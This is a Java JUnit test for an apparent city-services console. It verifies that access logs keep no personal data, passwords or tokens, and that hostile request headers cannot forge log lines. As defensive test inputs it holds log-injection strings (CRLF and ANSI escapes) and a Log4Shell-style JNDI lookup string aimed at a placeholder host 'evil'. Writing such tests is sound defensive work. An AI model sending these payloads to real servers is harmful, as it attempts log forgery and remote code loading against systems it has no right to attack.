package org.gridline.console;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.UUID;
import org.gridline.console.log.LogLines;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** What people say, ask for and are called never reaches the log, in neither of its forms. */
class QuietLogTest {
  private static final List<String> SECRETS =
      List.of(
          "13800009999",
          "8613800009999",
          "孙某某",
          "12幢502室",
          "秘密的话",
          "secretplace",
          "wrong-password-1",
          "secret-token",
          "evil");

  private final Town town = Town.shared();
  private final Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
  private final Logger own = (Logger) LoggerFactory.getLogger("org.gridline");
  private final List<String> text = Collections.synchronizedList(new ArrayList<>());
  private final List<String> json = Collections.synchronizedList(new ArrayList<>());
  private final AppenderBase<ILoggingEvent> keeper =
      new AppenderBase<>() {
        private final LogLines plain = lines("text");
        private final LogLines objects = lines("json");

        @Override
        protected void append(ILoggingEvent event) {
          text.add(new String(plain.encode(event), StandardCharsets.UTF_8));
          json.add(new String(objects.encode(event), StandardCharsets.UTF_8));
        }
      };

  private static LogLines lines(String form) {
    LogLines lines = new LogLines();
    lines.setForm(form);
    return lines;
  }

  @BeforeEach
  void everything_is_kept() {
    own.setLevel(Level.INFO);
    keeper.start();
    root.addAppender(keeper);
  }

  @AfterEach
  void nothing_is_kept_any_more() {
    root.detachAppender(keeper);
    own.setLevel(null);
  }

  @Test
  void neither_good_nor_bad_requests_leave_personal_data_in_the_log() {
    ObjectNode report = Said.lamp().put("words", "路灯不亮,秘密的话").put("address", "12幢502室");
    report.putObject("caller").put("phone", "13800009999").put("name", "孙某某");
    JsonNode ticket = Town.json(taken(town.report("operator1", report.toString())));
    report.withObject("/caller").put("phone", "138000099991");
    assertThat(town.report("operator1", report.toString()).statusCode()).isEqualTo(422);
    assertThat(town.report("operator1", report + "秘密的话").statusCode()).isEqualTo(400);
    town.get("operator1", "/api/v1/addresses?q=secretplace");
    town.get("operator1", "/api/v1/tickets?cursor=secretplace");
    town.get("operator1", "/api/v1/tickets/" + ticket.path("id").asLong());
    town.get("operator1", "/api/v1/tickets/13800009999/events");
    town.get("operator1", "/api/v1/secretplace/13800009999?name=secretplace");
    town.send(
        town.request("/api/v1/sessions")
            .header("Content-Type", "application/json")
            .POST(BodyPublishers.ofString("{\"user\":\"孙某某\",\"password\":\"wrong-password-1\"}")));
    town.send(town.request("/api/v1/city").header("Authorization", "Bearer secret-token"));
    town.send(town.request("/api/v1/units").header("Authorization", "Bearer secret-token"));
    Await.until(() -> text.stream().filter(l -> l.contains("route=/api/v1/units")).count() >= 1);
    quiet();
    assertThat(text).anySatisfy(l -> assertThat(l).contains("route=/api/v1/tickets/:id/events"));
  }

  @Test
  void hostile_headers_make_no_line_of_their_own() throws IOException {
    String[] heads = {
      "GET /api/v1/city?q=evil%0a%0d%1b[31m HTTP/1.1\r\nHost: x\r\nX-Request-Id: evil%0aevil\r\n",
      "GET /api/v1/city HTTP/1.1\r\nHost: x\r\nX-Request-Id: \u001b[31mevil 13800009999\r\n",
      "GET /api/v1/city HTTP/1.1\r\nHost: x\r\nX-Request-Id: 138000099990000000\r\n",
      "GET /api/v1/city HTTP/1.1\r\nHost: x\r\ntraceparent: 00-evil-evil-01\r\n",
      "GET /api/v1/city HTTP/1.1\r\nHost: evil\r\nUser-Agent: ${jndi:ldap://evil/x}\r\n",
      "EVIL\u001b /api/v1/city HTTP/1.1\r\nHost: x\r\n",
      "evil /api/v1/city HTTP/1.1\r\nHost: x\r\n",
      "GET /%zz/evil HTTP/1.1\r\nHost: x\r\n",
      "GET /api/v1/tickets/%0aevil%1b HTTP/1.1\r\nHost: x\r\n",
      "POST /api/v1/sessions HTTP/1.1\r\nHost: x\r\nContent-Length: evil\r\n",
      "GET evil://evil HTTP/9.9\r\nHost: x\r\n"
    };
    for (String head : heads) raw(head + "Connection: close\r\n\r\n");
    String probe = UUID.randomUUID().toString();
    town.send(town.request("/api/v1/vocabulary").header("X-Request-Id", probe));
    Await.until(() -> text.stream().anyMatch(l -> l.contains(probe)));
    quiet();
  }

  @Test
  void each_request_leaves_one_line_by_its_number() {
    String id = UUID.randomUUID().toString();
    HttpResponse<String> answer =
        town.send(town.as("operator1", "/api/v1/tickets/1").header("X-Request-Id", id));
    assertThat(answer.statusCode()).isEqualTo(404);
    assertThat(answer.headers().firstValue("X-Request-Id")).hasValue(id);
    assertThat(Town.json(answer).path("requestId").asText()).isEqualTo(id);
    Await.until(() -> json.stream().anyMatch(l -> l.contains(id)));
    List<String> lines = json.stream().filter(l -> l.contains(id)).toList();
    assertThat(lines).hasSize(1);
    JsonNode line = Town.json(lines.getFirst());
    assertThat(line.path("logger").asText()).isEqualTo("org.gridline.access");
    assertThat(line.path("route").asText()).isEqualTo("/api/v1/tickets/:id");
    assertThat(line.path("method").asText()).isEqualTo("GET");
    assertThat(line.path("status").asInt()).isEqualTo(404);
    assertThat(line.path("ms").asDouble()).isPositive();
    assertThat(line.path("user").isIntegralNumber()).isTrue();
  }

  @Test
  void a_trace_that_came_along_names_the_request() {
    String trace = "4bf92f3577b34da6a3ce929d0e0e4736";
    HttpResponse<String> answer =
        town.send(
            town.request("/api/v1/city")
                .header("traceparent", "00-" + trace + "-00f067aa0ba902b7-01"));
    assertThat(answer.headers().firstValue("X-Request-Id")).hasValue(trace);
    HttpResponse<String> invented =
        town.send(town.request("/api/v1/city").header("X-Request-Id", "13800009999000000"));
    assertThat(invented.headers().firstValue("X-Request-Id").orElseThrow()).matches("[0-9a-f]{16}");
  }

  private static HttpResponse<String> taken(HttpResponse<String> answer) {
    assertThat(answer.statusCode()).isEqualTo(201);
    return answer;
  }

  private void quiet() {
    List<String> all = new ArrayList<>(text);
    all.addAll(json);
    for (String line : all) {
      for (String secret : SECRETS) assertThat(line).doesNotContainIgnoringCase(secret);
      assertThat(line.stripTrailing().chars().filter(Character::isISOControl).count()).isZero();
    }
    for (String line : List.copyOf(json)) assertThat(Town.json(line).isObject()).isTrue();
  }

  private void raw(String bytes) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), town.port())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(bytes.getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      socket.getInputStream().readAllBytes();
    }
  }
}
